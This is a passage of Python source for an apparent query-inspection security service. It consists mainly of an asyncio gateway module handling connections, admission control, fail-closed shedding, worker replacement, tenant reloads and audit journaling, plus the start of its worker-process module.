            asyncio.TimeoutError,
        ) as exc:
            await self.close()
            raise GatewayError(
                f"transport failure: {type(exc).__name__}: {exc}"
            ) from exc
        try:
            return _decode_reply(reply, len(queries))
        except GatewayError:
            await self.close()
            raise

    async def __aenter__(self) -> "AsyncGatewayClient":
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.close()
