"""Asyncio guard gateway: the crash-safe network face of the Joza engine.

Architecture (DESIGN.md section 12): one asyncio event loop accepts unix /
TCP connections and shuffles length-prefixed frames; all analysis happens
in a fleet of :class:`~repro.service.worker.GatewayWorker` processes,
checked out of a free queue (least-loaded by construction: a worker is
either free or serving exactly one batch) and bridged through a thread
pool executor so pipe round-trips never block the loop.

Robustness invariants, each tested:

- **Deadline propagation**: the client's per-request budget is clamped to
  ``max_deadline`` server-side, queue wait is deducted, and requests that
  are expired on arrival (or that expire while queued) are shed without
  touching a worker.
- **Admission control**: at most ``workers + max_queue`` requests are in
  flight; excess is shed.  Every shed -- queue full, no worker in time,
  expired -- is answered with recorded fail-closed verdicts, never a
  silent drop: gateway-level sheds have no surviving analysis technique,
  so ``OverloadPolicy`` degradation applies only inside workers (their
  ``DaemonPool``), not here.
- **Worker fault isolation**: a hung, crashed or corrupt worker fails only
  its own in-flight batch (resolved fail-closed); the worker is replaced
  after ``replace_after`` consecutive failures or immediately when dead.
- **Connection fault isolation**: torn frames, garbage, oversized
  announcements and mid-request disconnects fail closed per connection
  and never poison the listener.
- **Graceful drain**: SIGTERM stops the listeners, lets in-flight work
  finish or deadline out within ``drain_timeout``, reaps every worker
  (zero zombies), flushes the audit log and exits 0.
"""

from __future__ import annotations

import asyncio
import json
import signal
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Callable, Sequence

from ..core.policy import JozaConfig
from ..core.resilience import OverloadPolicy, RingLog
from ..pti import wire
from .codec import encode_verdict, failsafe_dict
from .worker import GatewayWorker, WorkerFailure

__all__ = [
    "AsyncGateway",
    "GatewayConfig",
    "GatewayStats",
    "GatewayThread",
    "serve",
]

#: Shed reasons (also the ``failure_reasons`` entry of the failsafe
#: verdicts a shed produces -- greppable in the audit export).
REASON_EXPIRED_ON_ARRIVAL = "gateway: deadline expired on arrival"
REASON_EXPIRED_IN_QUEUE = "gateway: deadline expired waiting for a worker"
REASON_QUEUE_FULL = "gateway: admission queue full"
REASON_NO_WORKER = "gateway: no worker available in time"
REASON_DRAINING = "gateway: draining (SIGTERM)"
REASON_WORKER_FAILED = "gateway: worker failure"


@dataclass
class GatewayConfig:
    """Service-level knobs (the engine's own config rides separately)."""

    #: Unix socket path; ``None`` disables the unix listener.
    unix_path: str | None = None
    #: TCP bind host; ``None`` disables the TCP listener.
    host: str | None = None
    #: TCP port (0 = ephemeral, resolved after :meth:`AsyncGateway.start`).
    port: int = 0
    #: Worker processes (one engine each).
    workers: int = 2
    #: PTI daemon grandchildren per worker (0 = in-process PTI daemon).
    worker_pool_size: int = 0
    worker_pool_max_queue: int = 8
    #: Requests allowed to *wait* beyond the ``workers`` in service;
    #: ``workers + max_queue`` is the hard in-flight bound.
    max_queue: int = 16
    #: Server-side clamp on client deadline budgets (seconds; None = no
    #: clamp).  A client asking for more gets this; a client asking for
    #: less keeps its own budget.
    max_deadline: float | None = 2.0
    #: Max seconds an admitted request waits for a free worker (further
    #: clamped to the request's remaining budget).
    admission_timeout: float = 1.0
    #: Worker-internal overload policy (forwarded to each worker's
    #: ``DaemonPool``; gateway-level sheds are always fail-closed).
    overload_policy: OverloadPolicy = OverloadPolicy.SHED_FAIL_CLOSED
    #: Consecutive worker-call failures that trigger replacement.
    replace_after: int = 3
    #: Seconds granted to in-flight work after SIGTERM before workers are
    #: reaped anyway.
    drain_timeout: float = 5.0
    #: Slow-loris guard: max seconds to wait for the next length prefix on
    #: an idle connection...
    idle_timeout: float = 30.0
    #: ...and for the body of an announced frame to fully arrive.
    frame_timeout: float = 10.0
    #: Gateway audit ring capacity (shed/expired/refused records).
    audit_capacity: int = 10_000
    #: Per-request artificial service time inside each worker (seconds).
    #: Models real analysis cost in throughput benches so cross-process
    #: overlap is measurable even on a single-core runner; 0 in production.
    worker_pace_seconds: float = 0.0
    #: Base RNG seed forwarded to workers (worker ``i`` gets ``seed + i``).
    seed: int | None = None
    #: Multi-tenant mode: tenant-id -> overlay fragment list.  The
    #: gateway's ``fragments`` become the shared base vocabulary (interned
    #: once per worker), each tenant engine sees base + its overlay, and
    #: the wire ``client_id`` routes to the tenant's engine.  ``None`` =
    #: classic single-tenant gateway.  ``worker_pool_size`` only applies
    #: in single-tenant mode.
    tenants: dict[str, list[str]] | None = None
    #: Durable state directory (DESIGN.md section 15).  When set, the
    #: gateway restores vocabulary + overlays + audit from it *before*
    #: accepting, journals every mutation and unsafe verdict, and a
    #: drain-stop writes a final checkpoint.  ``None`` = in-memory only.
    state_dir: str | None = None
    #: Journal fsync policy: "always" / "batch" (group commit, default) /
    #: "never" (OS-buffered; tests and benches).
    fsync_policy: str = "batch"
    #: Journal records accumulated before a compacting checkpoint.
    checkpoint_every: int = 512

    def __post_init__(self) -> None:
        if self.workers <= 0:
            raise ValueError("workers must be positive")
        if self.max_queue < 0:
            raise ValueError("max_queue must be non-negative")
        if self.admission_timeout <= 0:
            raise ValueError("admission_timeout must be positive")
        if self.replace_after <= 0:
            raise ValueError("replace_after must be positive")
        if self.unix_path is None and self.host is None:
            raise ValueError("need a unix_path or a host to listen on")
        if self.checkpoint_every < 1:
            raise ValueError("checkpoint_every must be >= 1")


@dataclass
class GatewayStats:
    """Gateway-level counters (same atomic ``bump`` contract as
    :class:`~repro.core.engine.EngineStats`)."""

    connections_opened: int = 0
    connections_closed: int = 0
    frames_received: int = 0
    requests_accepted: int = 0
    queries_inspected: int = 0
    replies_sent: int = 0
    #: Admission sheds: in-flight bound hit ...
    shed_queue_full: int = 0
    #: ... or no worker freed up inside the admission/deadline window.
    shed_no_worker: int = 0
    #: Requests whose (clamped) budget was already spent at arrival.
    expired_on_arrival: int = 0
    #: Requests whose budget expired while queued for a worker.
    expired_in_queue: int = 0
    #: Requests refused because the gateway is draining.
    draining_refused: int = 0
    #: Frames that failed wire validation (bad magic/kind/truncation).
    protocol_errors: int = 0
    #: Frames refused from the length prefix alone, body never read.
    oversized_refused: int = 0
    #: Connections dropped by the slow-loris / stalled-frame guards.
    stalled_connections: int = 0
    #: Worker calls that failed (hang, crash, corrupt reply) ...
    worker_failures: int = 0
    #: ... and workers replaced because of them.
    worker_replacements: int = 0
    #: Tenant snapshot frames pushed to workers (reload_tenant fan-out) ...
    snapshot_pushes: int = 0
    #: ... and pushes that failed (worker hung/crashed mid-push).
    snapshot_push_failures: int = 0
    #: Unsafe verdicts / audit events the durability journal refused
    #: (disk trouble); the reply path is never taken down by these.
    audit_persist_failures: int = 0
    _lock: threading.Lock = field(
        default_factory=threading.Lock, init=False, repr=False, compare=False
    )

    def bump(self, **deltas: int) -> None:
        with self._lock:
            for name, delta in deltas.items():
                setattr(self, name, getattr(self, name) + delta)

    def snapshot(self) -> dict[str, int]:
        with self._lock:
            return {
                name: getattr(self, name)
                for name in (
                    "connections_opened",
                    "connections_closed",
                    "frames_received",
                    "requests_accepted",
                    "queries_inspected",
                    "replies_sent",
                    "shed_queue_full",
                    "shed_no_worker",
                    "expired_on_arrival",
                    "expired_in_queue",
                    "draining_refused",
                    "protocol_errors",
                    "oversized_refused",
                    "stalled_connections",
                    "worker_failures",
                    "worker_replacements",
                    "snapshot_pushes",
                    "snapshot_push_failures",
                    "audit_persist_failures",
                )
            }


class AsyncGateway:
    """The gateway: listeners + worker fleet + admission + drain."""

    def __init__(
        self,
        fragments: Sequence[str],
        config: JozaConfig | None = None,
        gateway: GatewayConfig | None = None,
        *,
        audit_sink: Callable[[str], None] | None = None,
    ) -> None:
        self.fragments = list(fragments)
        self.config = config or JozaConfig()
        self.gw = gateway or GatewayConfig(host="127.0.0.1")
        self.stats = GatewayStats()
        #: Gateway-level audit: every shed / expired / refused request, one
        #: record per query, carrying connection and client (tenant) ids.
        self.audit: RingLog = RingLog(self.gw.audit_capacity)
        #: Where the drain-time audit flush goes (default: stderr-less
        #: no-op safe default is stdout via print by ``serve``).
        self._audit_sink = audit_sink
        self._servers: list[asyncio.AbstractServer] = []
        self._free: asyncio.Queue[GatewayWorker] = asyncio.Queue()
        self._workers: list[GatewayWorker] = []
        self._executor: ThreadPoolExecutor | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._pending = 0
        self._inflight = 0
        self._idle = asyncio.Event()
        self._idle.set()
        self._draining = False
        self._closed = False
        self._conn_counter = 0
        self._next_worker_id = 0
        self._lock = threading.Lock()
        #: Durable state (bound by :meth:`start` when ``state_dir`` is
        #: configured); ``None`` = in-memory gateway.
        self.durable = None
        #: Restores refused because the state directory failed
        #: verification (the fail-closed path: start() raised).
        self.corruption_refusals = 0
        self.drain_stats: dict[str, object] = {
            "drained": False,
            "inflight_at_drain": 0,
            "drain_seconds": 0.0,
            "deadline_outs": 0,
        }

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------

    def _spawn_worker(self) -> GatewayWorker:
        """Blocking (fork + engine build in the child); run in executor
        after startup."""
        with self._lock:
            worker_id = self._next_worker_id
            self._next_worker_id += 1
        seed = None if self.gw.seed is None else self.gw.seed + worker_id
        with self._lock:
            # Replacement workers spawn with the *current* tenant overlays
            # (reload_tenant keeps this map fresh), so a respawn after a
            # reload never resurrects a pre-reload vocabulary.
            tenants = (
                None
                if self.gw.tenants is None
                else {
                    tenant_id: list(overlay)
                    for tenant_id, overlay in self.gw.tenants.items()
                }
            )
        return GatewayWorker(
            worker_id,
            self.fragments,
            self.config,
            pool_size=self.gw.worker_pool_size,
            pool_max_queue=self.gw.worker_pool_max_queue,
            overload_policy=self.gw.overload_policy,
            pace_seconds=self.gw.worker_pace_seconds,
            seed=seed,
            tenants=tenants,
        )

    def _restore_durable(self) -> None:
        """Open (and recover) the durable state *before* anything serves.

        Fail-closed by construction: a corrupt journal or checkpoint
        raises :class:`~repro.persist.JournalCorrupt` out of ``start()``
        and no listener is ever bound -- the gateway refuses to vet
        queries against a vocabulary it cannot verify.  On success the
        recovered vocabulary and tenant overlays *replace* the config
        seed (persisted state wins; the seed only matters on first boot),
        so respawned workers rehydrate from the recovered fragments.
        """
        from ..persist import DurableState, JournalCorrupt

        try:
            durable = DurableState(
                self.gw.state_dir,
                seed_fragments=self.fragments,
                fsync=self.gw.fsync_policy,
                checkpoint_every=self.gw.checkpoint_every,
            )
        except JournalCorrupt:
            self.corruption_refusals += 1
            raise
        self.durable = durable
        self.fragments = list(durable.store.fragments)
        if self.gw.tenants is not None:
            # Recovered overlays win over config; config tenants unseen by
            # the journal are first-boot additions and get journaled now.
            for tenant_id, overlay in durable.overlays.items():
                self.gw.tenants[tenant_id] = list(overlay)
            for tenant_id, overlay in list(self.gw.tenants.items()):
                if tenant_id not in durable.overlays:
                    durable.set_overlay(tenant_id, overlay)
        # Every gateway audit record (sheds, refusals) is journaled; ring
        # eviction stops meaning lost evidence.
        self.audit.attach_sink(durable.append_audit)

    async def start(self) -> None:
        """Spawn the fleet and bind the listeners."""
        if self._servers:
            raise RuntimeError("gateway already started")
        self._loop = asyncio.get_running_loop()
        if self.gw.state_dir is not None:
            self._restore_durable()
        # One executor thread per worker plus slack for replacement spawns
        # and report fan-out: a blocked worker call must never starve the
        # bridge for the others.
        self._executor = ThreadPoolExecutor(
            max_workers=self.gw.workers + 2,
            thread_name_prefix="joza-gw",
        )
        for _ in range(self.gw.workers):
            worker = self._spawn_worker()
            self._workers.append(worker)
            self._free.put_nowait(worker)
        if self.gw.unix_path is not None:
            self._servers.append(
                await asyncio.start_unix_server(
                    self._handle_conn, path=self.gw.unix_path
                )
            )
        if self.gw.host is not None:
            server = await asyncio.start_server(
                self._handle_conn, host=self.gw.host, port=self.gw.port
            )
            self._servers.append(server)
            # Resolve an ephemeral port for clients/tests.
            self.gw.port = server.sockets[0].getsockname()[1]

    async def stop(self, *, drain: bool = True) -> bool:
        """Stop accepting, drain in-flight, reap the fleet; True if clean.

        Idempotent.  ``drain=False`` skips the grace period (tests of the
        hard-stop path); in-flight requests then race worker teardown and
        resolve fail-closed like any other worker failure.
        """
        if self._closed:
            return bool(self.drain_stats["drained"])
        self._draining = True
        for server in self._servers:
            server.close()
        for server in self._servers:
            await server.wait_closed()
        t0 = time.monotonic()
        with self._lock:
            self.drain_stats["inflight_at_drain"] = self._inflight
        drained = True
        if drain and self._inflight > 0:
            try:
                await asyncio.wait_for(
                    self._idle.wait(), timeout=self.gw.drain_timeout
                )
            except asyncio.TimeoutError:
                drained = False
                with self._lock:
                    self.drain_stats["deadline_outs"] = self._inflight
        self._closed = True
        loop = asyncio.get_running_loop()
        # Reap workers off-loop (close() joins); no zombie survives stop().
        await asyncio.gather(
            *(
                loop.run_in_executor(self._executor, w.close)
                for w in self._workers
            )
        )
        self._workers.clear()
        while not self._free.empty():  # drop stale free-queue handles
            self._free.get_nowait()
        if self._executor is not None:
            self._executor.shutdown(wait=True)
            self._executor = None
        self.drain_stats["drained"] = drained
        self.drain_stats["drain_seconds"] = time.monotonic() - t0
        if self.durable is not None:
            self.audit.attach_sink(None)
            if drain:
                # SIGTERM drain: flush the journal group and write the
                # final checkpoint -- restart restores exactly this state.
                self.durable.close()
            else:
                # Hard stop: crash-shaped.  Handles drop without flushing
                # so a subsequent restore exercises real journal replay.
                self.durable.abandon()
        self._flush_audit()
        return drained

    def _flush_audit(self) -> None:
        if self._audit_sink is None:
            return
        document = json.dumps(
            {
                "gateway": self.stats.snapshot(),
                "drain": dict(self.drain_stats),
                "audit_dropped_records": self.audit.dropped_records,
                "audit": [dict(record) for record in self.audit],
            },
            indent=2,
        )
        try:
            self._audit_sink(document)
        except Exception:  # pragma: no cover - sink must not break drain
            pass

    # ------------------------------------------------------------------
    # Deadline clamping
    # ------------------------------------------------------------------

    def _clamp_budget(self, budget: float | None) -> float | None:
        """Client budget clamped to the server's ``max_deadline``.

        ``None`` (unbounded) on both sides stays unbounded; a negative or
        zero client budget is preserved so clock-skewed requests shed as
        expired-on-arrival instead of silently gaining time.
        """
        ceiling = self.gw.max_deadline
        if budget is None:
            return ceiling
        if ceiling is None:
            return budget
        return min(budget, ceiling)

    # ------------------------------------------------------------------
    # Connection handling
    # ------------------------------------------------------------------

    async def _handle_conn(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        with self._lock:
            self._conn_counter += 1
            conn_id = f"conn-{self._conn_counter}"
        self.stats.bump(connections_opened=1)
        try:
            await self._conn_loop(reader, writer, conn_id)
        except (ConnectionResetError, BrokenPipeError):
            pass  # mid-request disconnect: per-connection, fail closed
        finally:
            self.stats.bump(connections_closed=1)
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError, OSError):
                pass
            except RuntimeError:
                pass  # loop already closed during teardown

    async def _conn_loop(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        conn_id: str,
    ) -> None:
        while True:
            try:
                header = await asyncio.wait_for(
                    reader.readexactly(wire.PREFIX.size),
                    timeout=self.gw.idle_timeout,
                )
            except asyncio.IncompleteReadError:
                return  # clean EOF (or torn prefix -- nothing to answer)
            except asyncio.TimeoutError:
                self.stats.bump(stalled_connections=1)
                return
            (length,) = wire.PREFIX.unpack(header)
            if length == 0 or length > wire.MAX_FRAME:
                # Refused from the announcement alone: the body is never
                # read, so a hostile length cannot make us buffer 4GiB.
                self.stats.bump(oversized_refused=1)
                await self._send_frame(
                    writer,
                    wire.pack_gateway_error(
                        wire.GW_ERR_OVERSIZED,
                        f"frame of {length} bytes refused "
                        f"(max {wire.MAX_FRAME})",
                    ),
                )
                return
            try:
                frame = await asyncio.wait_for(
                    reader.readexactly(length), timeout=self.gw.frame_timeout
                )
            except asyncio.IncompleteReadError:
                # Torn frame: client died mid-send.  No complete request
                # was received, so there is nothing to answer; the
                # connection dies, the listener lives.
                self.stats.bump(protocol_errors=1)
                return
            except asyncio.TimeoutError:
                self.stats.bump(stalled_connections=1)
                return
            reply = await self._process_frame(frame, conn_id)
            await self._send_frame(writer, reply)
            self.stats.bump(replies_sent=1)

    @staticmethod
    async def _send_frame(writer: asyncio.StreamWriter, frame: bytes) -> None:
        writer.write(wire.PREFIX.pack(len(frame)) + frame)
        await writer.drain()

    # ------------------------------------------------------------------
    # Request processing
    # ------------------------------------------------------------------

    def _audit_shed(
        self, request: wire.GatewayRequest, conn_id: str, reason: str
    ) -> None:
        for query in request.queries:
            self.audit.append(
                {
                    "query": query,
                    "client_id": request.client_id or None,
                    "conn_id": conn_id,
                    "request_path": request.path,
                    "reason": reason,
                    "failsafe": True,
                }
            )

    def _failsafe_reply(
        self, request: wire.GatewayRequest, conn_id: str, reason: str
    ) -> bytes:
        """Recorded fail-closed verdicts for every query of a shed request."""
        self._audit_shed(request, conn_id, reason)
        return wire.pack_gateway_reply(
            [
                encode_verdict(failsafe_dict(query, reason))
                for query in request.queries
            ]
        )

    async def _process_frame(self, frame: bytes, conn_id: str) -> bytes:
        self.stats.bump(frames_received=1)
        try:
            kind = wire.peek_kind(frame)
            if kind != wire.KIND_GW_REQUEST:
                raise wire.WireFormatError(
                    f"unexpected frame kind {kind} (want gateway request)"
                )
            request = wire.unpack_gateway_request(frame)
        except wire.WireFormatError as exc:
            # Complete-but-invalid frame: answer with a protocol error and
            # keep the connection (framing itself is still synchronized).
            self.stats.bump(protocol_errors=1)
            return wire.pack_gateway_error(wire.GW_ERR_BAD_FRAME, str(exc))
        if self._draining or self._closed:
            self.stats.bump(draining_refused=1)
            self._audit_shed(request, conn_id, REASON_DRAINING)
            return wire.pack_gateway_error(
                wire.GW_ERR_DRAINING, REASON_DRAINING
            )
        with self._lock:
            self._inflight += 1
            self._idle.clear()
        try:
            return await self._dispatch(request, conn_id)
        finally:
            with self._lock:
                self._inflight -= 1
                if self._inflight == 0:
                    self._idle.set()

    async def _dispatch(
        self, request: wire.GatewayRequest, conn_id: str
    ) -> bytes:
        arrival = time.monotonic()
        budget = self._clamp_budget(request.budget)
        # Expired on arrival (includes clock-skewed negative budgets):
        # shed before any queueing, no worker is touched.
        if budget is not None and budget <= 0.0:
            self.stats.bump(expired_on_arrival=1)
            return self._failsafe_reply(
                request, conn_id, REASON_EXPIRED_ON_ARRIVAL
            )
        # Admission: hard in-flight bound, checked before waiting.
        with self._lock:
            if self._pending >= self.gw.workers + self.gw.max_queue:
                shed = True
            else:
                self._pending += 1
                shed = False
        if shed:
            self.stats.bump(shed_queue_full=1)
            return self._failsafe_reply(request, conn_id, REASON_QUEUE_FULL)
        try:
            wait = self.gw.admission_timeout
            if budget is not None:
                wait = min(wait, budget)
            try:
                worker = await asyncio.wait_for(self._free.get(), timeout=wait)
            except asyncio.TimeoutError:
                self.stats.bump(shed_no_worker=1)
                return self._failsafe_reply(request, conn_id, REASON_NO_WORKER)
            try:
                remaining = budget
                if budget is not None:
                    remaining = budget - (time.monotonic() - arrival)
                    if remaining <= 0.0:
                        self.stats.bump(expired_in_queue=1)
                        return self._failsafe_reply(
                            request, conn_id, REASON_EXPIRED_IN_QUEUE
                        )
                return await self._inspect_on(
                    worker, request, conn_id, remaining
                )
            finally:
                worker = await self._maybe_replace(worker)
                if not self._closed:
                    self._free.put_nowait(worker)
        finally:
            with self._lock:
                self._pending -= 1

    async def _inspect_on(
        self,
        worker: GatewayWorker,
        request: wire.GatewayRequest,
        conn_id: str,
        budget: float | None,
    ) -> bytes:
        assert self._loop is not None and self._executor is not None
        self.stats.bump(
            requests_accepted=1, queries_inspected=len(request.queries)
        )
        try:
            dicts = await self._loop.run_in_executor(
                self._executor,
                worker.inspect,
                request.client_id,
                request.path,
                request.inputs,
                request.queries,
                budget,
            )
        except WorkerFailure as exc:
            worker.consecutive_failures += 1
            self.stats.bump(worker_failures=1)
            return self._failsafe_reply(
                request, conn_id, f"{REASON_WORKER_FAILED}: {exc.reason}"
            )
        worker.consecutive_failures = 0
        if self.durable is not None:
            # Unsafe verdicts are attack evidence: journal them at the
            # gateway (workers are disposable processes whose rings die
            # with them).  Persistence failures surface via the sink
            # counters, never on the reply path.
            for verdict in dicts:
                if not verdict.get("safe", False):
                    try:
                        self.durable.append_audit(
                            {
                                "conn_id": conn_id,
                                "client_id": request.client_id or None,
                                "request_path": request.path,
                                "verdict": verdict,
                            }
                        )
                    except Exception:
                        self.stats.bump(audit_persist_failures=1)
            try:
                self.durable.maybe_checkpoint()
            except Exception:
                self.stats.bump(audit_persist_failures=1)
        return wire.pack_gateway_reply([encode_verdict(d) for d in dicts])

    async def _maybe_replace(self, worker: GatewayWorker) -> GatewayWorker:
        """Health check after every checkout; replace dead/failing workers."""
        if self._closed:
            return worker
        if (
            worker.is_alive()
            and worker.consecutive_failures < self.gw.replace_after
        ):
            return worker
        assert self._loop is not None and self._executor is not None
        self.stats.bump(worker_replacements=1)
        await self._loop.run_in_executor(self._executor, worker._reap)
        replacement = await self._loop.run_in_executor(
            self._executor, self._spawn_worker
        )
        with self._lock:
            try:
                self._workers.remove(worker)
            except ValueError:  # pragma: no cover - already dropped
                pass
            self._workers.append(replacement)
        return replacement

    # ------------------------------------------------------------------
    # Tenant replication
    # ------------------------------------------------------------------

    async def reload_tenant(self, tenant_id: str, overlay) -> dict:
        """Push one tenant's new overlay to every worker (warm handoff).

        The rolling-reload control plane: workers are pushed one at a
        time, each applies the snapshot in place via its registry's warm
        handoff (successor composite automaton compiled off-path, atomic
        swap) and keeps serving other tenants throughout.  A worker that
        fails the push is counted and left to the health checker --
        ``consecutive_failures`` drives its replacement, and the
        replacement spawns with the already-updated overlay map.
        """
        if self.gw.tenants is None:
            raise RuntimeError("gateway is not in tenant mode")
        overlay = list(overlay)
        with self._lock:
            if tenant_id not in self.gw.tenants:
                raise KeyError(f"unknown tenant {tenant_id!r}")
            if self.durable is not None:
                # Journal before publishing: a failed append refuses the
                # reload and workers keep serving the old overlay.
                self.durable.set_overlay(tenant_id, overlay)
            self.gw.tenants[tenant_id] = overlay
            workers = list(self._workers)
        assert self._loop is not None and self._executor is not None
        epochs: dict[int, int] = {}
        failures: dict[int, str] = {}
        for worker in workers:
            try:
                epoch = await self._loop.run_in_executor(
                    self._executor, worker.push_snapshot, tenant_id, overlay
                )
                epochs[worker.worker_id] = epoch
                self.stats.bump(snapshot_pushes=1)
            except WorkerFailure as exc:
                failures[worker.worker_id] = exc.reason
                self.stats.bump(snapshot_push_failures=1)
                worker.consecutive_failures += 1
        return {"tenant": tenant_id, "epochs": epochs, "failures": failures}

    # ------------------------------------------------------------------
    # Operator surface
    # ------------------------------------------------------------------

    def worker_pids(self) -> list[int]:
        """Live worker PIDs (the zombie-check hook for drain tests)."""
        return [w.pid for w in self._workers if w.pid is not None]

    def resilience_report(self) -> dict:
        """Gateway counters + per-worker engine reports (best effort).

        The ``gateway`` section is the operator's view of the sidecar:
        what was accepted, what was shed and why, how many workers were
        replaced, how the drain went, and whether the bounded audit ring
        had to drop records (easy to miss under sustained attack floods).
        """
        gateway: dict = dict(self.stats.snapshot())
        gateway["drain"] = dict(self.drain_stats)
        gateway["audit_dropped_records"] = self.audit.dropped_records
        gateway["audit_capacity"] = self.audit.capacity
        gateway["pending"] = self._pending
        gateway["workers"] = len(self._workers)
        if self.gw.tenants is not None:
            gateway["tenancy"] = {
                "tenants": len(self.gw.tenants),
                "base_fragments": len(self.fragments),
                "snapshot_pushes": gateway["snapshot_pushes"],
                "snapshot_push_failures": gateway["snapshot_push_failures"],
            }
        if self.durable is not None:
            # DESIGN.md section 15: journal/checkpoint counters, replay
            # stats, and how the audit ring's churn maps onto the journal.
            durability = dict(self.durable.durability_report())
            # ``audit_persisted`` (journal-level, from the DurableState)
            # counts every journaled audit event; the ring-level counters
            # say how much of the ring's churn the journal backs.
            durability["audit_drops_recovered"] = self.audit.drops_recovered
            durability["audit_sink_failures"] = self.audit.sink_failures
            durability["corruption_refusals"] = self.corruption_refusals
            gateway["durability"] = durability
        report: dict = {"gateway": gateway, "workers": []}
        for worker in list(self._workers):
            try:
                report["workers"].append(
                    {
                        "worker_id": worker.worker_id,
                        "pid": worker.pid,
                        "alive": worker.is_alive(),
                        "engine": worker.request_report(),
                    }
                )
            except WorkerFailure as exc:
                report["workers"].append(
                    {
                        "worker_id": worker.worker_id,
                        "pid": worker.pid,
                        "alive": worker.is_alive(),
                        "error": exc.reason,
                    }
                )
        return report


async def serve(
    gateway: AsyncGateway,
    *,
    handle_signals: bool = True,
    on_ready: Callable[[AsyncGateway], None] | None = None,
) -> int:
    """Run the gateway until SIGTERM/SIGINT, then drain gracefully.

    ``on_ready`` fires after the listeners are bound (ephemeral TCP ports
    are resolved by then).  Returns the process exit code (0 after a
    drain, clean or deadline-out -- in-flight work was resolved either way
    and no worker survived).
    """
    await gateway.start()
    if on_ready is not None:
        on_ready(gateway)
    stop_event = asyncio.Event()
    loop = asyncio.get_running_loop()
    if handle_signals:
        for signum in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(signum, stop_event.set)
    try:
        await stop_event.wait()
    finally:
        await gateway.stop()
        if handle_signals:
            for signum in (signal.SIGTERM, signal.SIGINT):
                loop.remove_signal_handler(signum)
    return 0


class GatewayThread:
    """Host a gateway on a background thread (sync tests and benches).

    The tier-1 suite has no asyncio plugin, so integration tests start the
    gateway here and talk to it with the sync
    :class:`~repro.service.client.GatewayClient`.
    """

    def __init__(self, gateway: AsyncGateway) -> None:
        self.gateway = gateway
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None
        self._ready = threading.Event()
        self._startup_error: BaseException | None = None

    def start(self, timeout: float = 30.0) -> "GatewayThread":
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        if not self._ready.wait(timeout):
            raise RuntimeError("gateway failed to start in time")
        if self._startup_error is not None:
            raise RuntimeError(
                f"gateway startup failed: {self._startup_error!r}"
            ) from self._startup_error
        return self

    def _run(self) -> None:
        loop = asyncio.new_event_loop()
        self._loop = loop
        asyncio.set_event_loop(loop)
        try:
            loop.run_until_complete(self.gateway.start())
        except BaseException as exc:  # noqa: BLE001 - surfaced to starter
            self._startup_error = exc
            self._ready.set()
            loop.close()
            return
        self._ready.set()
        try:
            loop.run_forever()
        finally:
            # Connection handlers for sockets the client never closed are
            # still pending; cancel and drain them while the loop is alive
            # so their cleanup (writer.close) does not fire post-close.
            pending = [t for t in asyncio.all_tasks(loop) if not t.done()]
            for task in pending:
                task.cancel()
            if pending:
                loop.run_until_complete(
                    asyncio.gather(*pending, return_exceptions=True)
                )
            loop.run_until_complete(loop.shutdown_asyncgens())
            loop.close()

    def run_coro(self, coro, timeout: float = 30.0):
        """Run a coroutine on the gateway loop from the calling thread."""
        assert self._loop is not None
        future = asyncio.run_coroutine_threadsafe(coro, self._loop)
        return future.result(timeout)

    def stop(self, *, drain: bool = True, timeout: float = 30.0) -> bool:
        """Drain and stop the gateway, then stop the loop and join."""
        if self._loop is None or self._thread is None:
            return True
        if self._startup_error is None:
            drained = self.run_coro(self.gateway.stop(drain=drain), timeout)
        else:
            drained = True
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=timeout)
        return drained
