"""Gateway worker processes: one full Joza engine fleet per child.

Each :class:`GatewayWorker` wraps one long-lived child process hosting
either a single :class:`~repro.core.JozaEngine` (optionally fronting a
:class:`~repro.pti.pool.DaemonPool` of PTI daemon grandchildren) or, in
multi-tenant mode, a :class:`~repro.tenancy.TenantRegistry` with one
engine per tenant over interned :class:`~repro.tenancy.TenantStore`
state.  The child is reached over an anonymous pipe with the same
trusted-pair pickle protocol the PTI daemon uses.  The GIL never
serialises two workers: analysis parallelism across clients comes from
*processes*, the asyncio gateway only shuffles bytes.

In multi-tenant mode the gateway wire's ``client_id`` is the tenant id:
inspects route to that tenant's engine, and a client naming an
unregistered tenant gets fail-closed verdicts (never another tenant's
vocabulary).  Tenant fragment reloads arrive as ``("snapshot", tenant,
overlay)`` ops and apply in place via the registry's warm handoff -- the
worker process is never restarted for a vocabulary change.

Resilience contract (mirrors ``SubprocessPTIDaemon``): :meth:`inspect`
either returns one verdict dict per query or raises
:class:`WorkerFailure`; pipe errors and silent hangs never escape raw.  A
failed worker is reaped with the terminate -> kill escalation so no zombie
survives it.
"""

from __future__ import annotations

import multiprocessing
import threading
import time
from typing import Mapping, Sequence

from ..core.engine import AttackRecord, JozaEngine
from ..core.policy import JozaConfig
from ..core.resilience import Deadline, OverloadPolicy
from ..phpapp.context import CapturedInput, RequestContext
from ..pti.fragments import FragmentStore
from .codec import failsafe_dict, verdict_to_dict

__all__ = [
    "GatewayWorker",
    "WorkerFailure",
    "REASON_UNKNOWN_TENANT",
    "_gateway_worker_loop",
]

#: Refusal reason for inspects naming a tenant the worker does not host.
REASON_UNKNOWN_TENANT = "worker: unknown tenant"


class WorkerFailure(Exception):
    """A worker call failed (hang, crash, corrupt reply); resolve fail-closed."""

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


def _build_engine(
    fragments,
    config: JozaConfig,
    pool_size: int,
    pool_max_queue: int,
    overload_policy: str,
    seed: int | None,
) -> JozaEngine:
    store = FragmentStore(fragments)
    if pool_size > 0:
        from ..pti.pool import DaemonPool

        daemon = DaemonPool(
            store,
            config.daemon,
            size=pool_size,
            max_queue=pool_max_queue,
            overload_policy=OverloadPolicy(overload_policy),
            seed=seed,
        )
        return JozaEngine(store, config, daemon=daemon)
    return JozaEngine(store, config)


class _EngineFleet:
    """Child-side engine set: one default engine, or one per tenant.

    Single-tenant mode (``tenants is None``) is the legacy shape: one
